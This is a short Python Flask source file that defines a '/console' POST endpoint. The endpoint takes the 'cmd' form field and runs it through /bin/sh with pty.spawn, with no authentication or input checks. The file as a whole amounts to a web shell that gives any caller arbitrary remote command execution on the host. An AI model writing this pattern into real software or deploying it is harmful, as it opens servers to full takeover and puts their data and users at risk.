import pty

from flask import Flask, request

app = Flask(__name__)


@app.post("/console")
def console():
    pty.spawn(["/bin/sh", "-c", request.form.get("cmd", "true")])
    return "done"
